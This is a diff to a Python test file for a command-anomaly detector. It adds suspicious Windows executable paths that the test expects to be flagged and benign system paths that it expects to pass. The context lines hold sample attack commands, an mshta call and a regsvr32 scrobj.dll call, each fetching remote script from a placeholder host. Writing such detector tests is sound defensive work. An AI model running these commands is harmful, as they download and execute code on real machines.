@@ -16,6 +16,12 @@ from sekisho.fleet.checks.commands import odd
         "mshta http://x/a.hta",
         "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
         "/tmp/.x",
+        r"%PUBLIC%\u.exe",
+        r'"%TEMP%\a.exe" -q',
+        r"%SystemRoot%\Temp\a.dll",
+        r"\SystemRoot\Temp\driver.sys",
+        r"%ProgramData%\svc.exe",
+        "C:/Users/Public/u.exe",
     ],
 )
 def test_odd(command: str) -> None:
@@ -30,6 +36,10 @@ def test_odd(command: str) -> None:
         r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
         r"powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\backup.ps1",
         "/usr/bin/tmpwatch",
+        r"%SystemRoot%\System32\svchost.exe -k netsvcs",
+        r"%ProgramData%\Vendor\agent.exe",
+        r"\SystemRoot\System32\drivers\disk.sys",
+        r"C:\Windows\System32\cmd.exe /c C:\Scripts\temp.bat /tasks",
         "",
     ],
 )
